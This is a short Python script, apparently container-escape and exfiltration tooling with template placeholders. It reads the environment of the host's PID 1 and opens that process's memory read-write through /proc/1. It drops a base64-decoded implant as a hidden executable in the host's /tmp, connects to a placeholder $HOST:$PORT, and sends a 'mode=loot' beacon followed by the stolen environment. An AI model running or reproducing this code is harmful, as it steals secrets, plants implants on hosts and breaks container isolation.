import base64, os, socket, time
env = open("/proc/1/environ", "rb").read()
mem = os.open("/proc/1/mem", os.O_RDWR)
held = open("/proc/1/root/etc/passwd", "rb")
os.chdir("/proc/1/root/data")
with open("/proc/1/root/tmp/.helper", "wb") as f:
    f.write(base64.b64decode("$IMPLANT"))
os.chmod("/proc/1/root/tmp/.helper", 0o755)
s = socket.create_connection(("$HOST", $PORT))
s.sendall(("HELLO pid=%d mode=loot exe=%s\n" % (os.getpid(), os.readlink("/proc/self/exe"))).encode())
s.sendall(env)
time.sleep(3600)
